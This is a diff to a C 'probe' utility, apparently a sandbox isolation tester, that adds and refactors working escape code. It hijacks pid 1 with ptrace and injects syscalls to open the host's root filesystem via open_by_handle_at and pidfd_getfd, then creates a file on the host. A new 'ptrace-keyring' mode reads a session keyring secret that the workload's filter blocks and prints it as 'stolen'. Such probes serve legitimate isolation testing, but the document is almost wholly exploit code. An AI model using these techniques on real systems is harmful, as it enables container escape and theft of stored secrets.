@@ -13,6 +13,7 @@
  *   probe connect PATH                connect to a unix socket (@NAME: abstract)
  *   probe ptrace-escape DIR HANDLE REL  hijack pid 1 (init) to open the host's root, take the
  *                                     descriptor with pidfd_getfd, create REL there
+ *   probe ptrace-keyring DESC         hijack init to read the session keyring's key DESC
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -318,54 +319,101 @@ static int poke(pid_t pid, unsigned long addr, const void *data, size_t len) {
     return 0;
 }
 
-static int ptrace_escape(const char *dir, const char *exact, const char *rel) {
-    pid_t init = 1;
+/* Stop pid 1 (init) in a system call and find its `syscall` instruction: 0 when it is ours. */
+static int seize_init(struct user_regs_struct *saved, unsigned long long *insn) {
     int st;
+    long rc = ptrace(PTRACE_SEIZE, 1, 0, 0);
+    report("seize_init", rc);
+    if (rc < 0)
+        return -1;
+    ptrace(PTRACE_INTERRUPT, 1, 0, 0);
+    waitpid(1, &st, __WALL);
+    ptrace(PTRACE_GETREGS, 1, 0, saved);
+    long text = ptrace(PTRACE_PEEKTEXT, 1, saved->rip - 2, 0);
+    if ((text & 0xffff) != 0x050f) {
+        printf("init_not_in_syscall=%llx\n", saved->rip);
+        ptrace(PTRACE_DETACH, 1, 0, 0);
+        return -1;
+    }
+    *insn = saved->rip - 2;
+    return 0;
+}
+
+static void release_init(const struct user_regs_struct *saved) {
+    ptrace(PTRACE_SETREGS, 1, 0, saved);
+    report("detach_init", ptrace(PTRACE_DETACH, 1, 0, 0));
+}
+
+/* A page of scratch memory in init. */
+static long init_page(const struct user_regs_struct *saved, unsigned long long insn) {
+    long mem = inject(1, saved, insn, SYS_mmap, 0, 4096, PROT_READ | PROT_WRITE,
+                      MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    printf("init_mmap=%lx\n", mem);
+    return mem;
+}
+
+static int ptrace_escape(const char *dir, const char *exact, const char *rel) {
     struct handle h;
+    struct user_regs_struct saved;
+    unsigned long long insn;
     if (parse_handle(exact, &h) < 0) {
         printf("bad handle\n");
         return 2;
     }
-    long rc = ptrace(PTRACE_SEIZE, init, 0, 0);
-    report("seize_init", rc);
-    if (rc < 0)
+    if (seize_init(&saved, &insn) < 0)
         return 0;
-    ptrace(PTRACE_INTERRUPT, init, 0, 0);
-    waitpid(init, &st, __WALL);
-    struct user_regs_struct saved;
-    ptrace(PTRACE_GETREGS, init, 0, &saved);
-    errno = 0;
-    long text = ptrace(PTRACE_PEEKTEXT, init, saved.rip - 2, 0);
-    if ((text & 0xffff) != 0x050f) {
-        printf("init_not_in_syscall=%llx\n", saved.rip);
-        ptrace(PTRACE_DETACH, init, 0, 0);
-        return 0;
-    }
-    unsigned long long insn = saved.rip - 2;
-    long mem = inject(init, &saved, insn, SYS_mmap, 0, 4096, PROT_READ | PROT_WRITE,
-                      MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
-    printf("init_mmap=%lx\n", mem);
+    long mem = init_page(&saved, insn);
     long vol = -1, root = -1;
-    if (mem > 0 && poke(init, mem, dir, strlen(dir) + 1) == 0 &&
-        poke(init, mem + 1024, &h, sizeof h) == 0) {
-        vol = inject(init, &saved, insn, SYS_openat, AT_FDCWD, mem, O_RDONLY | O_DIRECTORY, 0, 0, 0);
+    if (mem > 0 && poke(1, mem, dir, strlen(dir) + 1) == 0 &&
+        poke(1, mem + 1024, &h, sizeof h) == 0) {
+        vol = inject(1, &saved, insn, SYS_openat, AT_FDCWD, mem, O_RDONLY | O_DIRECTORY, 0, 0, 0);
         printf("init_openat=%ld\n", vol);
         if (vol >= 0)
-            root = inject(init, &saved, insn, SYS_open_by_handle_at, vol, mem + 1024,
+            root = inject(1, &saved, insn, SYS_open_by_handle_at, vol, mem + 1024,
                           O_RDONLY | O_DIRECTORY, 0, 0, 0);
         printf("init_open_by_handle_at=%ld\n", root);
     }
-    ptrace(PTRACE_SETREGS, init, 0, &saved);
-    report("detach_init", ptrace(PTRACE_DETACH, init, 0, 0));
+    release_init(&saved);
     if (root < 0)
         return 0;
-    long pidfd = syscall(SYS_pidfd_open, init, 0);
+    long pidfd = syscall(SYS_pidfd_open, 1, 0);
     long host_root = syscall(SYS_pidfd_getfd, pidfd, root, 0);
     report("pidfd_getfd_host_root", host_root);
     if (host_root < 0)
         return 0;
     list_dir("host_root_entry", (int)host_root);
     create_in("create_on_host", host_root, rel);
+    return 0;
+}
+
+/* Read the "user" key DESC of the session keyring: refused to the workload by its filter, then
+ * through init (which has none), the key's payload read back from init's memory. */
+static int ptrace_keyring(const char *desc) {
+    struct user_regs_struct saved;
+    unsigned long long insn;
+    report("keyctl_search_self",
+           syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", desc, 0));
+    if (seize_init(&saved, &insn) < 0)
+        return 0;
+    long mem = init_page(&saved, insn);
+    char payload[264] = {0};
+    if (mem > 0 && poke(1, mem, "user", 5) == 0 && poke(1, mem + 64, desc, strlen(desc) + 1) == 0) {
+        long key = inject(1, &saved, insn, SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING,
+                          mem, mem + 64, 0, 0);
+        printf("init_keyctl_search=%ld\n", key);
+        if (key >= 0) {
+            long n = inject(1, &saved, insn, SYS_keyctl, KEYCTL_READ, key, mem + 1024, 256, 0, 0);
+            printf("init_keyctl_read=%ld\n", n);
+            for (long i = 0; i < n && i < 256; i += sizeof(long)) {
+                long word = ptrace(PTRACE_PEEKDATA, 1, mem + 1024 + i, 0);
+                memcpy(payload + i, &word, sizeof word);
+            }
+            payload[n > 0 && n < 256 ? n : 0] = 0;
+            printf("stolen=%s\n", payload);
+        }
+    }
+    release_init(&saved);
+    fflush(stdout);
     return 0;
 }
 
@@ -382,8 +430,10 @@ int main(int argc, char **argv) {
         return chroot_escape(argv[2]);
     if (argc >= 3 && !strcmp(argv[1], "connect"))
         return connect_unix(argv[2]);
+    if (argc >= 3 && !strcmp(argv[1], "ptrace-keyring"))
+        return ptrace_keyring(argv[2]);
     if (argc >= 5 && !strcmp(argv[1], "ptrace-escape"))
         return ptrace_escape(argv[2], argv[3], argv[4]);
-    fprintf(stderr, "usage: probe syscalls|handle|shocker|int80|chroot-escape|connect|ptrace-escape\n");
+    fprintf(stderr, "usage: probe syscalls|handle|shocker|int80|chroot-escape|connect|ptrace-escape|ptrace-keyring\n");
     return 2;
 }
